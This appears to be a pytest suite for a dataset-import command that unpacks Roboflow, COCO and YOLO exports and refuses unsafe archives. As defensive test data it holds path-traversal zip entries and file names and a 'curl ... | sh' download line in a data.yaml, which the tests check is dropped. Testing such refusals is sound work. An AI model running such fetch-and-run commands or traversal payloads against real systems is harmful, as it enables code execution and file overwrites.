"""``workbench import``: exports built from the demo data (tests/export_zips.py) become datasets the trainer reads,
with counts equal to the labels in the archive (counted independently); unsafe, oversize and incomplete archives are
refused in one line with nothing left in the datasets folder.
"""

from __future__ import annotations

import json
import os
import shutil
import zipfile
from pathlib import Path

import pytest
import yaml

from tests.export_zips import (
    DEMO,
    NAMES,
    coco_counts,
    coco_zip,
    demo_images,
    demo_rows,
    demo_zip,
    roboflow_zip,
    yolo_counts,
)
from trainers.cli.commands import main
from trainers.datasets import importer
from trainers.datasets.data_yaml import load_dataset
from trainers.datasets.datasets_dir import datasets_root, default_dataset_name, list_datasets
from trainers.datasets.importer import import_dataset, parse_size, read_progress_line
from trainers.errors import DatasetError


def run_import(capsys, *args) -> tuple[int, str, list[str]]:
    """``workbench import ARGS``: exit code, stdout, and the stderr lines that are not progress lines."""
    code = main(["import", *map(str, args)])
    out, err = capsys.readouterr()
    return code, out, [line for line in err.splitlines() if read_progress_line(line) is None]


def imported(capsys, source: Path, ds_dir: Path, *args) -> dict:
    code, out, other = run_import(capsys, source, "--datasets-dir", ds_dir, "--json", *args)
    assert code == 0, other
    return json.loads(out)


def by_name(result: dict) -> dict[str, dict[str, int]]:
    """Boxes per class name per split, from the import's --json document (classes without boxes left out)."""
    return {
        split: {n: k for n, k in zip(result["names"], c["instances"], strict=True) if k}
        for split, c in result["splits"].items()
    }


def refused(capsys, source: Path, ds_dir: Path, *args) -> str:
    """Import that must fail: exit 2, exactly one error line and no traceback; returns the message."""
    code, out, other = run_import(capsys, source, "--datasets-dir", ds_dir, *args)
    assert code == 2 and out == "", (code, out)
    assert len(other) == 1 and other[0].startswith("workbench: error: "), other
    return other[0].removeprefix("workbench: error: ")


@pytest.fixture
def no_writes(monkeypatch):
    """Fail the test if the import creates its hidden work folder: the refusal must come before anything is written
    (cleaning up afterwards would leave the same end state, so the end state alone cannot show it)."""

    def boom(*args, **kwargs):
        raise AssertionError("the import started writing before refusing")

    monkeypatch.setattr(importer.tempfile, "mkdtemp", boom)


def tree(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*")) if folder.exists() else []


# ---- what imports --------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("mapping", [False, True], ids=["names-list", "names-mapping"])
def test_a_roboflow_zip_imports_with_the_counts_of_its_label_files(capsys, tmp_path, mapping):
    zip_path = roboflow_zip(tmp_path / "Shapes export.v2i.yolov8.zip", names_as_mapping=mapping)
    result = imported(capsys, zip_path, tmp_path / "ds")
    assert result["name"] == "Shapes-export.v2i.yolov8" and result["layout"] == "yolo"
    assert result["names"] == NAMES
    assert by_name(result) == yolo_counts()
    assert result["splits"]["train"]["n_images"] == len(demo_images("train"))
    data = Path(result["data"])
    assert data == tmp_path / "ds" / "Shapes-export.v2i.yolov8" / "data.yaml"
    written = yaml.safe_load(data.read_text())
    assert "path" not in written and "roboflow" not in written  # relocatable; metadata dropped
    ds = load_dataset(data)  # the trainer's own loader
    assert ds.names == NAMES and set(ds.splits) == {"train", "val"}
    assert list_datasets(tmp_path / "ds") == ["Shapes-export.v2i.yolov8"]


@pytest.mark.parametrize("style", ["roboflow", "coco"])
def test_a_coco_json_zip_imports_with_the_counts_of_its_annotations(capsys, tmp_path, style):
    zip_path, docs = coco_zip(tmp_path / f"{style}.zip", style)
    result = imported(capsys, zip_path, tmp_path / "ds", "--name", "shapes")
    assert result["layout"] == "coco"
    assert result["names"] == NAMES  # Roboflow's placeholder category dropped; ids 3, 7, 11, 20 renumbered in order
    assert by_name(result) == {split: coco_counts(doc) for split, doc in docs.items()}
    assert {s: c["n_images"] for s, c in result["splits"].items()} == {s: len(d["images"]) for s, d in docs.items()}
    # The boxes themselves survive the round trip demo YOLO -> COCO pixels -> convert_coco -> YOLO.
    image = demo_images("train")[1]
    label = tmp_path / "ds" / "shapes" / "labels" / "train" / f"{image.stem}.txt"
    got = sorted(tuple(float(v) for v in line.split()) for line in label.read_text().splitlines())
    want = sorted(tuple(r) for r in demo_rows(image))
    assert len(got) == len(want) and all(g[0] == w[0] for g, w in zip(got, want, strict=True))
    assert all(abs(a - b) < 1e-4 for g, w in zip(got, want, strict=True) for a, b in zip(g[1:], w[1:], strict=True))
    assert load_dataset(result["data"]).names == NAMES


def test_an_ultralytics_zip_imports_without_its_label_caches(capsys, tmp_path):
    """ultralytics np.load()s labels/*.cache with pickles allowed: an imported dataset never keeps one."""
    caches = {"demo/labels/train.cache": b"a pickle ultralytics would load", "demo/labels/val.cache": b"another"}
    zip_path = demo_zip(tmp_path / "demo.zip", extra=caches)
    result = imported(capsys, zip_path, tmp_path / "ds")
    assert by_name(result) == yolo_counts()
    assert not list(Path(result["folder"]).rglob("*.cache"))


def test_absolute_paths_from_the_exporting_machine_are_found_in_the_archive(capsys, tmp_path):
    text = (
        "path: /content/datasets/shapes\ntrain: /content/datasets/shapes/train/images\n"
        "val: /content/datasets/shapes/valid/images\nnames: {0: circle, 1: square, 2: triangle, 3: cross}\n"
        "download: curl https://example.com/x.sh | sh\n"
    )
    result = imported(capsys, roboflow_zip(tmp_path / "colab.zip", yaml_text=text), tmp_path / "ds")
    assert by_name(result) == yolo_counts()
    written = yaml.safe_load(Path(result["data"]).read_text())
    assert written["train"] == "train/images" and "download" not in written and "path" not in written


def test_labels_with_a_class_list_instead_of_a_data_yaml_import(capsys, tmp_path):
    zip_path = tmp_path / "darknet.zip"
    with zipfile.ZipFile(zip_path, "w") as z:
        z.writestr("export/classes.txt", "\n".join(NAMES) + "\n")
        for f in sorted(DEMO.rglob("*")):
            if f.is_file() and f.suffix in (".jpg", ".txt"):
                z.write(f, f"export/{f.relative_to(DEMO).as_posix()}")
    assert by_name(imported(capsys, zip_path, tmp_path / "ds")) == yolo_counts()


def test_a_folder_is_copied_and_left_as_it_was(capsys, tmp_path):
    source = tmp_path / "my data"
    shutil.copytree(DEMO, source)
    (source / "labels" / "train.cache").write_bytes(b"a pickle")
    before = {p: p.stat().st_mtime_ns for p in source.rglob("*")}
    result = imported(capsys, source, tmp_path / "ds")
    assert result["name"] == "my-data" and by_name(result) == yolo_counts()
    assert {p: p.stat().st_mtime_ns for p in source.rglob("*")} == before  # the cache too: removed from the copy only
    assert not list(Path(result["folder"]).rglob("*.cache"))


def test_the_import_prints_counts_per_split_and_class_and_progress_lines(capsys, tmp_path):
    code = main(["import", str(roboflow_zip(tmp_path / "rf.zip")), "--datasets-dir", str(tmp_path / "ds")])
    out, err = capsys.readouterr()
    assert code == 0
    counts = yolo_counts()
    assert f"train: 48 images (2 background), {sum(counts['train'].values())} boxes" in out
    assert f"val: 16 images (0 background), {sum(counts['val'].values())} boxes" in out
    rows = {line.split()[0]: line.split()[1:] for line in out.splitlines() if line.split()[:1] in ([n] for n in NAMES)}
    assert rows == {n: [str(counts["train"][n]), str(counts["val"][n])] for n in NAMES}
    steps = [read_progress_line(line) for line in err.splitlines()]
    assert all(steps) and len(steps) >= 5, err
    fractions = [f for f, _ in steps]
    assert fractions == sorted(fractions) and fractions[0] == 0 and fractions[-1] == 1.0
    assert any(m.startswith("unpacking") for _, m in steps)


# ---- what is refused, with nothing written -------------------------------------------------------------------------
@pytest.mark.parametrize("entry", ["../evil.txt", "/tmp/evil-import.txt", "shapes/../../evil.txt"])
def test_an_entry_outside_the_archive_refuses_the_whole_zip_before_writing(capsys, tmp_path, entry, no_writes):
    zip_path = demo_zip(tmp_path / "evil.zip", extra={entry: b"pwned"})
    before = tree(tmp_path)
    message = refused(capsys, zip_path, tmp_path / "sub" / "ds")
    assert f"entry {entry!r} points outside the archive" in message
    assert tree(tmp_path) == before  # not even the datasets folder
    assert not Path("/tmp/evil-import.txt").exists()


def test_ultralytics_unzip_file_skips_unsafe_entries(tmp_path):
    """The dependency we unzip with (8.4.190): it skips '..' and absolute entries with a warning and unpacks the
    rest, which is why the import refuses such an archive itself, before unzip_file runs."""
    from ultralytics.utils.downloads import unzip_file

    zip_path = demo_zip(tmp_path / "evil.zip", extra={"../evil.txt": b"x", "/tmp/evil-unzip.txt": b"x"})
    (tmp_path / "out").mkdir()
    unzip_file(zip_path, path=tmp_path / "out", progress=False)
    assert not (tmp_path / "evil.txt").exists() and not Path("/tmp/evil-unzip.txt").exists()
    assert (tmp_path / "out" / "evil" / "demo" / "data.yaml").is_file()  # the rest was unpacked


def test_an_archive_larger_than_max_size_is_refused_before_writing(capsys, tmp_path, monkeypatch):
    zip_path = roboflow_zip(tmp_path / "rf.zip")
    unpacked = sum(i.file_size for i in zipfile.ZipFile(zip_path).infolist())
    with monkeypatch.context() as m:
        m.setattr(importer.tempfile, "mkdtemp", lambda *a, **k: pytest.fail("wrote before refusing"))
        message = refused(capsys, zip_path, tmp_path / "ds", "--max-size", str(unpacked - 1))
    assert f"more than --max-size {importer.format_size(unpacked - 1)}" in message
    assert not (tmp_path / "ds").exists()
    # exactly the unpacked size is allowed
    assert imported(capsys, zip_path, tmp_path / "ds", "--max-size", str(unpacked))["name"] == "rf"


def test_an_archive_larger_than_the_free_disk_is_refused_before_writing(capsys, tmp_path, monkeypatch, no_writes):
    zip_path = roboflow_zip(tmp_path / "rf.zip")
    real = shutil.disk_usage
    monkeypatch.setattr(importer.shutil, "disk_usage", lambda p: real(p)._replace(free=200_000))
    message = refused(capsys, zip_path, tmp_path / "ds")
    assert "has 195.3 KiB free" in message
    assert not (tmp_path / "ds").exists()


def _not_a_zip(path: Path) -> Path:
    path.write_text("PK but not really a zip\n")
    return path


def _no_images(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("export/README.txt", "nothing here")
    return path


def _labels_without_names(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for f in sorted(DEMO.rglob("*")):
            if f.is_file() and f.suffix in (".jpg", ".txt"):
                z.write(f, f"export/{f.relative_to(DEMO).as_posix()}")
    return path


def _images_without_labels(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for im in demo_images("train"):
            z.write(im, f"export/images/{im.name}")
    return path


@pytest.mark.parametrize(
    ("build", "says"),
    [
        (_not_a_zip, "not a zip archive"),
        (_no_images, "no images in it"),
        (_labels_without_names, "labels without a data.yaml and no class names"),
        (_images_without_labels, "images but no labels"),
    ],
)
def test_a_bad_archive_says_what_is_missing_and_leaves_nothing(capsys, tmp_path, build, says):
    message = refused(capsys, build(tmp_path / "export.zip"), tmp_path / "ds")
    assert message.startswith(f"export.zip: {says}"), message
    assert not (tmp_path / "ds").exists()


def test_an_error_after_unpacking_leaves_only_what_was_there(capsys, tmp_path):
    """A bad label row is found after the archive is unpacked: the hidden import folder goes, the folder stays."""
    ds_dir = tmp_path / "ds"
    (ds_dir / "other").mkdir(parents=True)
    jpeg = demo_images("train")[1].read_bytes()
    zip_path = roboflow_zip(
        tmp_path / "rf.zip", extra={"train/images/zzz.jpg": jpeg, "train/labels/zzz.txt": b"9 0.5 0.5 0.1 0.1\n"}
    )
    message = refused(capsys, zip_path, ds_dir)
    assert message.startswith("rf.zip:train/labels/zzz.txt: line 1: class id 9 is out of range"), message
    assert ".import-" not in message
    assert tree(ds_dir) == ["other"]


def test_a_name_in_use_is_refused_and_the_dataset_kept(capsys, tmp_path, monkeypatch):
    ds_dir = tmp_path / "ds"
    zip_path = roboflow_zip(tmp_path / "rf.zip")
    imported(capsys, zip_path, ds_dir, "--name", "shapes")
    before = tree(ds_dir)
    monkeypatch.setattr(importer.tempfile, "mkdtemp", lambda *a, **k: pytest.fail("wrote before refusing"))
    message = refused(capsys, coco_zip(tmp_path / "c.zip")[0], ds_dir, "--name", "shapes")
    assert message.startswith("dataset 'shapes' already exists in")
    assert tree(ds_dir) == before


def test_a_coco_image_name_outside_its_folder_is_refused(capsys, tmp_path):
    def escape(split: str, doc: dict) -> None:
        if split == "train":
            doc["images"][0]["file_name"] = "../../../escaped.jpg"

    zip_path, _ = coco_zip(tmp_path / "c.zip", edit=escape)
    message = refused(capsys, zip_path, tmp_path / "ds")
    assert "image file_name '../../../escaped.jpg' leaves the images folder" in message
    assert not (tmp_path / "ds").exists() and not list(tmp_path.rglob("escaped*"))


def test_a_bad_name_is_refused(capsys, tmp_path):
    assert "is not allowed" in refused(capsys, roboflow_zip(tmp_path / "rf.zip"), tmp_path / "ds", "--name", "../x")


# ---- small parts ---------------------------------------------------------------------------------------------------
def test_sizes_and_names():
    assert parse_size("500M") == 500 << 20 and parse_size("1.5GB") == int(1.5 * (1 << 30))
    assert parse_size("300MiB") == 300 << 20 and parse_size("1024") == 1024 and parse_size("2k") == 2048
    for bad in ("", "abc", "-1M", "0"):
        with pytest.raises(ValueError):
            parse_size(bad)
    assert default_dataset_name("/x/My export (1).v2i.yolov8.zip") == "My-export-1-.v2i.yolov8"
    assert default_dataset_name("/x/.hidden") == "hidden"


def test_the_datasets_folder_comes_from_the_option_then_the_environment(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("WORKBENCH_DATASETS_DIR", raising=False)
    assert datasets_root() == tmp_path / "datasets"
    monkeypatch.setenv("WORKBENCH_DATASETS_DIR", str(tmp_path / "env"))
    assert datasets_root() == tmp_path / "env"
    assert datasets_root(tmp_path / "cli") == tmp_path / "cli"
    (tmp_path / "file").write_text("")
    with pytest.raises(DatasetError, match="is not a folder"):
        datasets_root(tmp_path / "file")


def test_the_library_call_reports_progress_and_returns_the_counts(tmp_path):
    seen: list[tuple[float, str]] = []
    result = import_dataset(
        roboflow_zip(tmp_path / "rf.zip"), datasets_dir=tmp_path / "ds", progress=lambda f, m: seen.append((f, m))
    )
    assert result.layout == "yolo" and result.folder == tmp_path / "ds" / "rf" and result.data_yaml.is_file()
    assert {s: sum(v.counts.instances) for s, v in result.splits.items()} == {
        s: sum(c.values()) for s, c in yolo_counts().items()
    }
    assert seen[0][0] == 0 and seen[-1] == (1.0, "imported rf") and [f for f, _ in seen] == sorted(f for f, _ in seen)


@pytest.mark.slow
def test_the_trainer_trains_on_an_imported_coco_dataset(capsys, tmp_path):
    from tests.conftest import recipe_for, run_trainer

    result = imported(capsys, coco_zip(tmp_path / "c.zip")[0], tmp_path / "ds")
    trainer = run_trainer(recipe_for(Path(result["data"]), train={"epochs": 1, "imgsz": 64}), tmp_path / "run")
    assert trainer.data["names"] == dict(enumerate(NAMES))
    assert os.path.isfile(trainer.best)


def test_ui_passes_the_datasets_folder_to_the_pages(tmp_path, monkeypatch):
    """`workbench ui --datasets-dir D` hands D to the UI process as $WORKBENCH_DATASETS_DIR (default ./datasets)."""
    import subprocess

    from trainers.cli import commands

    calls = []

    class FakePopen:
        def __init__(self, args, **kwargs):
            calls.append(kwargs["env"])

        def wait(self):
            return 0

    app = tmp_path / "main.py"
    app.write_text("")
    monkeypatch.setattr(commands, "APP_SCRIPT", app)
    monkeypatch.setattr(subprocess, "Popen", FakePopen)
    monkeypatch.delenv("WORKBENCH_DATASETS_DIR", raising=False)
    monkeypatch.chdir(tmp_path)
    assert main(["ui", "--runs-dir", str(tmp_path / "r"), "--datasets-dir", str(tmp_path / "d")]) == 0
    assert main(["ui", "--runs-dir", str(tmp_path / "r")]) == 0
    assert [env["WORKBENCH_DATASETS_DIR"] for env in calls] == [str(tmp_path / "d"), str(tmp_path / "datasets")]


def test_an_encrypted_entry_is_refused_before_writing(capsys, tmp_path, no_writes):
    zip_path = tmp_path / "locked.zip"
    with zipfile.ZipFile(zip_path, "w") as z:
        z.writestr("export/a.jpg", b"x")
    raw = bytearray(zip_path.read_bytes())  # zipfile cannot encrypt: set the 'encrypted' flag bit in both headers
    local, central = raw.find(b"PK\x03\x04"), raw.find(b"PK\x01\x02")
    raw[local + 6] |= 1
    raw[central + 8] |= 1
    zip_path.write_bytes(bytes(raw))
    message = refused(capsys, zip_path, tmp_path / "ds")
    assert message == "locked.zip: entry 'export/a.jpg' is encrypted; export the dataset without a password"


def test_coco_images_missing_from_the_archive_are_named(capsys, tmp_path):
    def ghost(split: str, doc: dict) -> None:
        if split == "val":
            doc["images"].append({"id": 999, "file_name": "ghost.jpg", "width": 128, "height": 128})

    message = refused(capsys, coco_zip(tmp_path / "c.zip", edit=ghost)[0], tmp_path / "ds")
    assert message.startswith("c.zip:valid/_annotations.coco.json: 1 of 17 images it lists are not in the archive")
    assert "(first: ghost.jpg" in message
    assert not (tmp_path / "ds").exists()


def test_a_stopped_import_leaves_nothing(tmp_path):
    """SIGTERM mid-unpack (the UI stopped, a terminal closed): exit 130 and the hidden work folder is gone."""
    import signal
    import subprocess
    import sys

    many = {f"demo/extra/{i:05d}.txt": b"x" for i in range(6000)}  # long enough an unpack to stop in the middle
    zip_path = demo_zip(tmp_path / "big.zip", extra=many)
    ds_dir = tmp_path / "ds"
    proc = subprocess.Popen(
        [sys.executable, "-m", "trainers.cli", "import", str(zip_path), "--datasets-dir", str(ds_dir)],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, cwd=Path(__file__).resolve().parent.parent,
    )  # fmt: skip
    assert proc.stderr is not None
    for line in proc.stderr:
        if "unpacking" in line:
            break
    assert any(p.name.startswith(".import-big-") for p in ds_dir.iterdir())  # stopped while it had written
    proc.send_signal(signal.SIGTERM)
    rest = proc.stderr.read()
    assert proc.wait(timeout=60) == 130, rest
    assert "workbench: interrupted" in rest
    assert not ds_dir.exists()
